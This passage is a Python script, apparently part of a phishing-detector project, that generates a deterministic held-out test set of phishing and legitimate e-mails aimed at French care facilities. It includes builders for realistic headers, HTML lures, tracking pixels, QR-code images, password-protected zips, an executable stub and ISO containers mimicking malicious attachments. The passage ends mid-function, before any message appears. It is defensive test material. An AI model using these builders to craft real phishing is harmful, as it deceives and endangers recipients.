"""Build the held-out e-mail set, version 2 (tests/data/emails_heldout/): 30 phishing, 30 legitimate.

Written independently of the analyser and of its tuning corpus, to judge it: this set must
never be used to tune the analyser. Version 1 was used to fix rules and was replaced; this
version shares no message, domain or wording with it.

The messages look like what reaches French medico-social facilities: trace headers of the
receiving system (Microsoft 365 for the EHPAD, Gandi for the foyer), of the sending one
(OVH, Google, Microsoft, mass-mailing tools…), DKIM signatures, MIME trees with text and HTML,
quoted-printable, base64 and 8bit bodies, encoded-word headers, attachments.

Deterministic: fixed dates, identifiers, boundaries and "random" bytes derived from SHA-256
of fixed seeds, fixed zip timestamps. ``--check`` compares the files on disk with what would
be generated, byte for byte.

Facilities and provider of this set (pass them as trusted extras, ``TRUSTED_EXTRA``):
ehpad-closdesvignes.fr (EHPAD Le Clos des Vignes and its SSIAD, Microsoft 365),
foyer-lamaisonnee.org (foyer de vie La Maisonnée, Gandi mail), numeria-infogerance.fr
(their IT provider, Google Workspace).

Usage: python scripts/make_heldout_emails.py [--check]
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import html
import io
import quopri
import re
import struct
import sys
import textwrap
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "tests" / "data" / "emails_heldout"
TRUSTED_EXTRA = ("ehpad-closdesvignes.fr", "foyer-lamaisonnee.org", "numeria-infogerance.fr")
VERSION = 2

EHPAD, FOYER, NUMERIA = TRUSTED_EXTRA

# --- Deterministic "randomness" ----------------------------------------------------------

ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
HEX = "0123456789abcdef"
DIGITS = "0123456789"
LOWER = "abcdefghijklmnopqrstuvwxyz"


def stream(seed: str, n: int) -> bytes:
    """``n`` bytes derived from ``seed`` (SHA-256 in counter mode)."""
    out = bytearray()
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"heldout-v2/{seed}/{i}".encode()).digest()
        i += 1
    return bytes(out[:n])


def tok(seed: str, n: int, alphabet: str = ALNUM) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in stream(seed, n))


def num(seed: str, low: int, high: int) -> int:
    """An integer in [low, high] derived from ``seed``."""
    return low + int.from_bytes(stream(seed, 4), "big") % (high - low + 1)


def guid(seed: str) -> str:
    h = tok(seed, 32, HEX)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def b64(seed: str, n: int) -> str:
    return base64.b64encode(stream(seed, n)).decode()


def fold(value: str, width: int = 72, sep: str = "\n\t") -> str:
    """Cut a long unbroken value (a signature) into lines of ``width`` characters."""
    return sep.join(value[i : i + width] for i in range(0, len(value), width))


# --- Dates -------------------------------------------------------------------------------

CEST = timezone(timedelta(hours=2))
PDT = timezone(timedelta(hours=-7))
DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def at(text: str) -> datetime:
    """A Paris time ("2026-05-04 09:14:22", summer time)."""
    return datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=CEST)


def rfc(dt: datetime, tz: timezone = CEST, *, pad: str = "", comment: str = "") -> str:
    """RFC 5322 date in ``tz``; ``pad`` "0" or " " for the day, ``comment`` like "(UTC)"."""
    d = dt.astimezone(tz)
    off = d.utcoffset() or timedelta(0)
    minutes = int(off.total_seconds() // 60)
    sign = "+" if minutes >= 0 else "-"
    zone = f"{sign}{abs(minutes) // 60:02d}{abs(minutes) % 60:02d}"
    day = f"{d.day:{pad}2d}" if pad else str(d.day)
    out = f"{DAYS[d.weekday()]}, {day} {MONTHS[d.month - 1]} {d.year} {d:%H:%M:%S} {zone}"
    return f"{out} {comment}" if comment else out


def ms_date(dt: datetime) -> str:  # Exchange Online
    return rfc(dt, UTC)


def pf_date(dt: datetime) -> str:  # Postfix
    return rfc(dt, UTC, pad=" ", comment="(UTC)")


def g_date(dt: datetime) -> str:  # Google
    return rfc(dt, PDT, pad="0", comment="(PDT)")


# --- Headers -----------------------------------------------------------------------------

Q_SAFE = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def ew(text: str, enc: str = "Q", charset: str = "UTF-8", sep: str = "\n ", limit: int = 52) -> str:
    """RFC 2047 encoded words for ``text`` (returned as is when it is plain ASCII)."""
    if text.isascii():
        return text
    codec = charset.lower()
    words: list[str] = []
    chunk = ""
    if enc == "B":
        for ch in text:
            cand = chunk + ch
            if chunk and len(base64.b64encode(cand.encode(codec))) > limit - 4:
                words.append(chunk)
                chunk = ch
            else:
                chunk = cand
        words.append(chunk)
        return sep.join(
            f"=?{charset}?B?{base64.b64encode(w.encode(codec)).decode()}?=" for w in words
        )
    for ch in text:
        if ch == " ":
            piece = "_"
        elif ch in Q_SAFE:
            piece = ch
        else:
            piece = "".join(f"={b:02X}" for b in ch.encode(codec))
        if len(chunk) + len(piece) > limit:
            words.append(chunk)
            chunk = ""
        chunk += piece
    words.append(chunk)
    return sep.join(f"=?{charset}?Q?{w}?=" for w in words)


def addr(name: str, email: str, enc: str = "Q", charset: str = "UTF-8") -> str:
    """A From/To value: quoted ASCII name, or encoded words, then <address>."""
    if not name:
        return email
    if not name.isascii():
        return f"{ew(name, enc, charset, ' ', 63)} <{email}>"
    if re.fullmatch(r"[A-Za-z0-9 !#$%&'*+/=?^_`{|}~-]+", name):
        return f"{name} <{email}>"
    return f'"{name}" <{email}>'


def domain_of(email: str) -> str:
    return email.rsplit("@", 1)[1].lower().rstrip(">")


@dataclass(frozen=True)
class Person:
    name: str
    email: str

    @property
    def domain(self) -> str:
        return domain_of(self.email)


# --- MIME --------------------------------------------------------------------------------


def qp(data: bytes) -> bytes:
    return quopri.encodestring(data)


def b64body(data: bytes) -> bytes:
    return base64.encodebytes(data)


def encode(data: bytes, cte: str) -> bytes:
    if cte == "base64":
        return b64body(data)
    if cte == "quoted-printable":
        return qp(data)
    return data if data.endswith(b"\n") else data + b"\n"


def part(ctype: str, data: bytes, cte: str, extra: str = "") -> bytes:
    head = f"Content-Type: {ctype}\n{extra}Content-Transfer-Encoding: {cte}\n\n"
    return head.encode() + encode(data, cte)


def text(
    body: str, cte: str = "quoted-printable", charset: str = "utf-8", flowed: bool = False
) -> bytes:
    fmt = "; format=flowed" if flowed else ""
    if flowed:  # soft line breaks: a trailing space, then the rest of the paragraph
        lines = []
        for line in body.split("\n"):
            wrapped = textwrap.wrap(line, 72, break_long_words=False, break_on_hyphens=False)
            lines.append(" \n".join(wrapped) if wrapped else "")
        body = "\n".join(lines)
    return part(f'text/plain; charset="{charset}"{fmt}', body.encode(charset), cte)


def htmlpart(body: str, cte: str = "quoted-printable", charset: str = "utf-8") -> bytes:
    return part(f'text/html; charset="{charset}"', body.encode(charset), cte)


BOUNDARY_STYLES: dict[str, Callable[[str], str]] = {
    "outlook": lambda h: (
        f"_00{h[0] if h[0] in '0246' else '0'}_PR1P264MB{h[1:5].upper()}{h[5:21].upper()}PR1P264MB{h[1:5].upper()}FRAP_"
    ),
    "gmail": lambda h: "000000000000" + h[:16],
    "java": lambda h: (
        f"----=_Part_{int(h[:5], 16)}_{int(h[5:13], 16)}.{1777000000000 + int(h[13:20], 16)}"
    ),
    "php": lambda h: "b1=_" + h[:40],
    "apple": lambda h: (
        f"Apple-Mail={'_'}{h[:8].upper()}-{h[8:12].upper()}-{h[12:16].upper()}-{h[16:20].upper()}-{h[20:32].upper()}"
    ),
    "thunderbird": lambda h: (
        "------------" + "".join(ALNUM[int(h[i : i + 2], 16) % 62] for i in range(0, 48, 2))
    ),
    "python": lambda h: "===============" + str(int(h[:16], 16))[:19] + "==",
    "esp": lambda h: h[:32],
    "mailjet": lambda h: "=_" + h[:32].upper(),
    "ovh": lambda h: "=_" + h[:32],
    "nextpart": lambda h: (
        f"----=_NextPart_000_{h[:4].upper()}_01DC{h[4:8].upper()}.{h[8:16].upper()}"
    ),
}


def multipart(subtype: str, parts: list[bytes], style: str, extra: str = "") -> bytes:
    """A multipart entity; the boundary is derived from the content, so it is unique."""
    h = hashlib.sha256(subtype.encode() + b"".join(parts)).hexdigest()
    boundary = BOUNDARY_STYLES[style](h)
    head = f'Content-Type: multipart/{subtype};\n\tboundary="{boundary}"{extra}\n\n'
    out = head.encode()
    if style in ("thunderbird", "apple", "python"):
        out += b"This is a multi-part message in MIME format.\n"
    for p in parts:
        out += f"--{boundary}\n".encode() + p.rstrip(b"\n") + b"\n\n"
    return out + f"--{boundary}--\n".encode()


def attachment(
    filename: str,
    ctype: str,
    data: bytes,
    *,
    cid: str = "",
    style: str = "rfc2231",
) -> bytes:
    """An attachment (or inline image when ``cid``), base64-encoded."""
    disp = "inline" if cid else "attachment"
    if filename.isascii():
        name_param = f'name="{filename}"'
        file_param = f'filename="{filename}"'
    elif style == "rfc2231":
        quoted = "".join(
            c
            if c.isascii() and (c.isalnum() or c in "-_.")
            else "".join(f"%{b:02X}" for b in c.encode())
            for c in filename
        )
        name_param = f'name="{ew(filename, "B", "utf-8", " ")}"'
        file_param = f"filename*=utf-8''{quoted}"
    else:
        name_param = f'name="{ew(filename, "Q", "UTF-8", " ")}"'
        file_param = f'filename="{ew(filename, "Q", "UTF-8", " ")}"'
    head = f"Content-Type: {ctype};\n\t{name_param}\n"
    head += f"Content-Disposition: {disp};\n\t{file_param}"
    if not cid:
        head += f"; size={len(data)}"
    head += "\n"
    if cid:
        head += f"Content-ID: <{cid}>\n"
    head += "Content-Transfer-Encoding: base64\n\n"
    return head.encode() + base64.encodebytes(data)


def rfc822(message: bytes, filename: str) -> bytes:
    head = (
        f'Content-Type: message/rfc822;\n\tname="{filename}"\n'
        f'Content-Disposition: attachment;\n\tfilename="{filename}"\n\n'
    )
    return head.encode() + message


# --- Text with links: [[visible|href]] ---------------------------------------------------

LINK = re.compile(r"\[\[([^|\]]+)\|([^\]]+)\]\]")
GREY_LINK = ' style="color:#888888"'


def plain(body: str, *, angle: bool = True) -> str:
    """The text/plain rendering: "visible <href>" (or the URL alone when it is the text)."""

    def sub(m: re.Match[str]) -> str:
        visible, href = m.group(1), m.group(2)
        if visible == href:
            return href
        return f"{visible} <{href}>" if angle else f"{visible} ( {href} )"

    return LINK.sub(sub, body)


def linkify(block: str, style: str = "") -> str:
    parts = []
    pos = 0
    for m in LINK.finditer(block):
        parts.append(html.escape(block[pos : m.start()], quote=False))
        href = html.escape(m.group(2))
        parts.append(f'<a href="{href}"{style}>{html.escape(m.group(1), quote=False)}</a>')
        pos = m.end()
    parts.append(html.escape(block[pos:], quote=False))
    return "".join(parts)


def html_outlook(body: str, signature_color: str = "#1F3864") -> str:
    """HTML as Outlook (Microsoft 365) writes it."""
    paras = []
    for block in body.strip("\n").split("\n\n"):
        for line in block.split("\n"):
            content = linkify(line) or "&nbsp;"
            paras.append(f'<p class="MsoNormal">{content}<o:p></o:p></p>')
        paras.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
    return (
        '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
        'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
        '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
        "<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:Aptos;}\n"
        'p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
        f"a:link, span.MsoHyperlink\n\t{{color:{signature_color};\n\ttext-decoration:underline;}}\n"
        "--></style>\n</head>\n"
        '<body lang="FR" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
        '<div class="WordSection1">\n' + "\n".join(paras) + "\n</div>\n</body>\n</html>\n"
    )


def html_gmail(body: str) -> str:
    """HTML as Gmail writes it."""
    blocks = []
    for block in body.strip("\n").split("\n\n"):
        lines = [linkify(line) for line in block.split("\n")]
        blocks.append("<div>" + "<br>".join(lines) + "</div>")
    return '<div dir="ltr">' + "<div><br></div>".join(blocks) + "</div>\n"


def html_simple(body: str, font: str = "Arial, sans-serif") -> str:
    """HTML as webmails and small tools write it."""
    paras = []
    for block in body.strip("\n").split("\n\n"):
        paras.append("<p>" + "<br>\n".join(linkify(line) for line in block.split("\n")) + "</p>")
    return (
        '<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>'
        f'<body style="font-family: {font}; font-size: 10pt">\n'
        + "\n".join(paras)
        + "\n</body></html>\n"
    )


def card(
    *,
    brand: str,
    color: str,
    title: str,
    paragraphs: list[str],
    button: tuple[str, str] | None = None,
    after: list[str] | None = None,
    footer: list[str] | None = None,
    logo: str = "",
    pixel: str = "",
    preheader: str = "",
) -> str:
    """A transactional notification in HTML (tables and inline styles, as sending tools do)."""
    rows = []
    if preheader:
        rows.append(
            f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">{html.escape(preheader)}</div>'
        )
    head_cell = (
        f'<img src="{html.escape(logo)}" alt="{html.escape(brand)}" height="40" style="display:block;border:0">'
        if logo
        else f'<span style="font-size:22px;font-weight:bold;color:#ffffff">{html.escape(brand)}</span>'
    )
    rows.append(
        '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f4f7">'
        '<tr><td align="center" style="padding:24px 8px">'
        '<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" '
        'style="max-width:600px;border-radius:6px">'
        f'<tr><td bgcolor="{color}" style="padding:18px 28px">{head_cell}</td></tr>'
        f'<tr><td style="padding:28px 28px 8px 28px;font-family:Arial,Helvetica,sans-serif;font-size:20px;color:#1b1b1b">'
        f"<strong>{html.escape(title)}</strong></td></tr>"
    )
    for p in paragraphs:
        rows.append(
            '<tr><td style="padding:8px 28px;font-family:Arial,Helvetica,sans-serif;font-size:15px;'
            f'line-height:22px;color:#333333">{linkify(p).replace(chr(10), "<br>")}</td></tr>'
        )
    if button:
        label, href = button
        rows.append(
            '<tr><td align="left" style="padding:18px 28px">'
            '<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr>'
            f'<td bgcolor="{color}" style="border-radius:4px">'
            f'<a href="{html.escape(href)}" target="_blank" style="display:inline-block;padding:12px 26px;'
            "font-family:Arial,Helvetica,sans-serif;font-size:15px;color:#ffffff;text-decoration:none;"
            f'font-weight:bold">{html.escape(label)}</a></td></tr></table></td></tr>'
        )
    for p in after or []:
        rows.append(
            '<tr><td style="padding:8px 28px;font-family:Arial,Helvetica,sans-serif;font-size:14px;'
            f'line-height:20px;color:#555555">{linkify(p).replace(chr(10), "<br>")}</td></tr>'
        )
    rows.append("</table>")
    if footer:
        rows.append(
            '<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="max-width:600px">'
        )
        for f in footer:
            rows.append(
                '<tr><td align="center" style="padding:4px 28px;font-family:Arial,Helvetica,sans-serif;'
                f'font-size:11px;color:#888888">{linkify(f, GREY_LINK)}</td></tr>'
            )
        rows.append("</table>")
    if pixel:
        rows.append(
            f'<img src="{html.escape(pixel)}" width="1" height="1" alt="" style="display:block;border:0">'
        )
    rows.append("</td></tr></table>")
    return (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
        '<html xmlns="http://www.w3.org/1999/xhtml" lang="fr"><head>\n'
        '<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">\n'
        '<meta name="viewport" content="width=device-width, initial-scale=1.0">\n'
        f"<title>{html.escape(title)}</title>\n</head>\n"
        '<body style="margin:0;padding:0;background:#f2f4f7">\n'
        + "\n".join(rows)
        + "\n</body>\n</html>\n"
    )


def card_text(
    title: str,
    paragraphs: list[str],
    button: tuple[str, str] | None = None,
    after: list[str] | None = None,
    footer: list[str] | None = None,
) -> str:
    """The text/plain twin of ``card``."""
    out = [title, ""]
    for p in paragraphs:
        out += [plain(p), ""]
    if button:
        out += [f"{button[0]} : {button[1]}", ""]
    for p in after or []:
        out += [plain(p), ""]
    for f in footer or []:
        out.append(plain(f))
    return "\n".join(out).rstrip("\n") + "\n"


# --- Attachments -------------------------------------------------------------------------

ZIP_TIME = (2026, 5, 4, 16, 42, 10)


def pdf(
    lines: list[str], *, producer: str = "Microsoft® Word pour Microsoft 365", title: str = ""
) -> bytes:
    """A small valid one-page PDF showing ``lines`` (Helvetica, WinAnsi)."""

    def esc(s: str) -> bytes:
        raw = s.encode("cp1252", "replace")
        return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")

    ops = [b"BT /F1 11 Tf 14 TL 60 780 Td"]
    for i, line in enumerate(lines):
        size = b"/F2 14 Tf " if i == 0 else (b"/F1 11 Tf " if i == 1 else b"")
        ops.append(size + b"(" + esc(line) + b") Tj T*")
    ops.append(b"ET")
    stream_data = zlib.compress(b"\n".join(ops), 9)
    info = (
        b"<< /Producer (" + esc(producer) + b") /Title (" + esc(title or lines[0]) + b")"
        b" /CreationDate (D:20260504101500+02'00') >>"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] "
        b"/Resources << /Font << /F1 4 0 R /F2 6 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length "
        + str(len(stream_data)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + stream_data
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
        info,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += str(i).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n"
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += (
        b"trailer\n<< /Size " + str(len(objects) + 1).encode() + b" /Root 1 0 R /Info 7 0 R >>\n"
        b"startxref\n" + str(xref).encode() + b"\n%%EOF\n"
    )
    return bytes(out)


JPEG_CORE = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////"
    "////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA="
)


def jpeg(seed: str, camera: str, size: int = 24_000) -> bytes:
    """A JPEG-shaped photo: SOI, an APP1 block naming the camera, filler APP2 data, a 1x1 image."""
    exif = (
        b"Exif\x00\x00MM\x00*\x00\x00\x00\x08"
        + camera.encode()
        + b"\x00"
        + b"2026:05:04 14:22:33\x00"
    )
    app1 = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    filler = b""
    remaining = size
    n = 0
    while remaining > 0:
        chunk = stream(f"{seed}/jpeg/{n}", min(remaining, 60_000))
        filler += b"\xff\xe2" + struct.pack(">H", len(chunk) + 2) + chunk
        remaining -= len(chunk)
        n += 1
    body = JPEG_CORE[2:]
    if not body.endswith(b"\xff\xd9"):
        body += b"\xff\xd9"
    return b"\xff\xd8" + app1 + filler + body


def png(width: int, height: int, rows: list[bytes]) -> bytes:
    """An 8-bit greyscale PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    raw = b"".join(b"\x00" + r for r in rows)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def qr_like(seed: str, modules: int = 29, scale: int = 6) -> bytes:
    """A QR-code-shaped PNG (three finder patterns, modules from the seed; never decoded)."""
    bits = stream(f"{seed}/qr", modules * modules)
    grid = [[bits[y * modules + x] & 1 for x in range(modules)] for y in range(modules)]
    for ox, oy in ((0, 0), (modules - 7, 0), (0, modules - 7)):
        for y in range(7):
            for x in range(7):
                edge = x in (0, 6) or y in (0, 6)
                core = 2 <= x <= 4 and 2 <= y <= 4
                grid[oy + y][ox + x] = 1 if edge or core else 0
        for i in range(-1, 8):
            for x, y in ((ox + i, oy - 1), (ox + i, oy + 7), (ox - 1, oy + i), (ox + 7, oy + i)):
                if 0 <= x < modules and 0 <= y < modules:
                    grid[y][x] = 0
    quiet = 4
    size = (modules + 2 * quiet) * scale
    rows = []
    for py in range(size):
        my = py // scale - quiet
        row = bytearray()
        for px in range(size):
            mx = px // scale - quiet
            dark = 0 <= mx < modules and 0 <= my < modules and grid[my][mx]
            row.append(0 if dark else 255)
        rows.append(bytes(row))
    return png(size, size, rows)


def zip_stored(files: list[tuple[str, bytes]]) -> bytes:
    """A zip (stored) with fixed timestamps."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.external_attr = 0o644 << 16
            info.create_system = 0
            zf.writestr(info, data)
    return buf.getvalue()


def _crc_table() -> list[int]:
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (0xEDB88320 ^ (c >> 1)) if c & 1 else (c >> 1)
        table.append(c)
    return table


CRC_TABLE = _crc_table()


def zip_encrypted(files: list[tuple[str, bytes]], password: str, seed: str) -> bytes:
    """A zip whose entries are encrypted with the traditional PKWARE cipher (ZipCrypto)."""

    def crc_byte(crc: int, b: int) -> int:
        return (crc >> 8) ^ CRC_TABLE[(crc ^ b) & 0xFF]

    dos_time = (ZIP_TIME[3] << 11) | (ZIP_TIME[4] << 5) | (ZIP_TIME[5] // 2)
    dos_date = ((ZIP_TIME[0] - 1980) << 9) | (ZIP_TIME[1] << 5) | ZIP_TIME[2]
    out = bytearray()
    central = bytearray()
    for index, (name, data) in enumerate(files):
        keys = [0x12345678, 0x23456789, 0x34567890]

        def update(b: int, keys: list[int] = keys) -> None:
            keys[0] = crc_byte(keys[0], b)
            keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            keys[2] = crc_byte(keys[2], keys[1] >> 24)

        def cipher(b: int, keys: list[int] = keys) -> int:
            t = (keys[2] | 2) & 0xFFFF
            c = b ^ (((t * (t ^ 1)) >> 8) & 0xFF)
            update(b)
            return c

        for ch in password.encode():
            update(ch)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        header = stream(f"{seed}/zipcrypto/{index}", 11) + bytes([crc >> 24])
        encrypted = bytes(cipher(b) for b in header + data)
        fname = name.encode("cp437")
        local = struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0x0001,
            0,
            dos_time,
            dos_date,
            crc,
            len(encrypted),
            len(data),
            len(fname),
            0,
        )
        offset = len(out)
        out += local + fname + encrypted
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0x0001,
                0,
                dos_time,
                dos_date,
                crc,
                len(encrypted),
                len(data),
                len(fname),
                0,
                0,
                0,
                0,
                0o644 << 16,
                offset,
            )
            + fname
        )
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(files), len(files), len(central), len(out), 0
    )
    return bytes(out + central + end)


EXE_STUB = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 7
    + b"PE\x00\x00\x4c\x01\x03\x00"
    + b"\x00" * 120
)


def iso_image(volume: str, filename: str, payload: bytes) -> bytes:
    """An ISO 9660-shaped image: 16 empty sectors, a primary volume descriptor, the terminator,
    a root directory record naming ``filename`` and the payload."""
    sector = 2048
    pvd = bytearray(sector)
    pvd[0:8] = b"\x01CD001\x01\x00"
    pvd[8:40] = b"WIN32".ljust(32)
    pvd[40:72] = volume.encode().ljust(32)
    pvd[80:88] = struct.pack("<I", 20) + struct.pack(">I", 20)
    term = bytearray(sector)
    term[0:7] = b"\xffCD001\x01"
    ident = filename.upper().encode() + b";1"
    record = bytearray(33 + len(ident))
    record[0] = len(record)
    record[2:10] = struct.pack("<I", 19) + struct.pack(">I", 19)
    record[10:18] = struct.pack("<I", len(payload)) + struct.pack(">I", len(payload))
    record[18:25] = bytes([126, 5, 4, 16, 42, 10, 8])
    record[32] = len(ident)
    record[33:] = ident
    root = bytes(record).ljust(sector, b"\x00")
    data = payload.ljust(((len(payload) + sector - 1) // sector) * sector, b"\x00")
    return b"\x00" * (16 * sector) + bytes(pvd) + bytes(term) + root + data


def ics(
    *,
    prodid: str,
    uid: str,
    stamp: str,
    start: str,
    end: str,
    summary: str,
    organizer: Person,
    attendees: list[Person],
    location: str,
    description: str = "",
) -> str:
    """A METHOD:REQUEST invitation (times in Europe/Paris)."""

    def fold_ics(line: str) -> str:
        raw = line.encode()
        if len(raw) <= 74:
            return line
        out, cur = [], ""
        for ch in line:
            if len((cur + ch).encode()) > 73:
                out.append(cur)
                cur = ch
            else:
                cur += ch
        out.append(cur)
        return "\r\n ".join(out)

    lines = [
        "BEGIN:VCALENDAR",
        f"PRODID:{prodid}",
        "VERSION:2.0",
        "CALSCALE:GREGORIAN",
        "METHOD:REQUEST",
        "BEGIN:VTIMEZONE",
        "TZID:Europe/Paris",
        "BEGIN:DAYLIGHT",
        "TZOFFSETFROM:+0100",
        "TZOFFSETTO:+0200",
        "TZNAME:CEST",
        "DTSTART:19700329T020000",
        "RRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU",
        "END:DAYLIGHT",
        "BEGIN:STANDARD",
        "TZOFFSETFROM:+0200",
        "TZOFFSETTO:+0100",
        "TZNAME:CET",
        "DTSTART:19701025T030000",
        "RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU",
        "END:STANDARD",
        "END:VTIMEZONE",
        "BEGIN:VEVENT",
        f"DTSTART;TZID=Europe/Paris:{start}",
        f"DTEND;TZID=Europe/Paris:{end}",
        f"DTSTAMP:{stamp}",
        f"ORGANIZER;CN={organizer.name}:mailto:{organizer.email}",
        f"UID:{uid}",
    ]
    for a in attendees:
        lines.append(
            f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={a.name};X-NUM-GUESTS=0:mailto:{a.email}"
        )
    if description:
        lines.append(
            "DESCRIPTION:"
            + description.replace("\\", "\\\\")
            .replace(",", "\\,")
            .replace(";", "\\;")
            .replace("\n", "\\n")
        )
    lines += [
        "LOCATION:" + location.replace(",", "\\,"),
        "SEQUENCE:0",
        "STATUS:CONFIRMED",
        "SUMMARY:" + summary.replace(",", "\\,"),
        "TRANSP:OPAQUE",
        "END:VEVENT",
        "END:VCALENDAR",
    ]
    return "\r\n".join(fold_ics(line) for line in lines) + "\r\n"


# --- Trace: who sent, who received -------------------------------------------------------


@dataclass
class Origin:
    """The sending side: the host that hands the message to the receiver, the Received lines
    below the receiver's (top first; {ms} {pf} {gg} {loc} {rcpt} are filled in), and trace
    headers the sending side adds."""

    host: str
    ip: str
    hops: list[str]
    trace: list[tuple[str, str]] = field(default_factory=list)
    country: str = "FR"


@dataclass(frozen=True)
class Auth:
    """What the receiver found: SPF, DKIM and DMARC results, the DKIM signatures (d, s)
    present on the message, and the From domain's DMARC policy."""

    spf: str = "pass"
    dkim: str = "pass"
    dmarc: str = "pass"
    sigs: tuple[tuple[str, str], ...] = ()
    policy: str = "none"


def ovh_pro(seed: str, client_ip: str) -> Origin:
    """OVH MX Plan / E-mail Pro (Exchange) through mo*.mail-out.ovh.net."""
    mo = num(seed + "mo", 500, 599)
    dag = num(seed + "dag", 2, 9)
    return Origin(
        host=f"mo{mo}.mail-out.ovh.net",
        ip=f"178.32.{num(seed + 'ip1', 96, 127)}.{num(seed + 'ip2', 2, 250)}",
        hops=[
            f"from DAG{dag}EX1.mxp{dag}.local (unknown [10.108.{num(seed + 'a', 1, 60)}.{num(seed + 'b', 2, 250)}])\n"
            f"\tby mo{mo}.mail-out.ovh.net (Postfix) with ESMTPS id 4f{tok(seed + 'q1', 11)}\n"
            "\tfor <{rcpt}>; {pf}",
            f"from DAG{dag}EX1.mxp{dag}.local (172.16.2.{num(seed + 'c', 10, 60)}) by DAG{dag}EX1.mxp{dag}.local\n"
            f" (172.16.2.{num(seed + 'c', 10, 60)}) with Microsoft SMTP Server (version=TLS1_2,\n"
            " cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.57; {loc}",
        ],
        trace=[
            ("X-Originating-IP", f"[{client_ip}]"),
            ("X-Ovh-Tracer-Id", tok(seed + "tracer", 19, DIGITS)),
            ("X-VR-SPAMSTATE", "OK"),
            ("X-VR-SPAMSCORE", "-100"),
            (
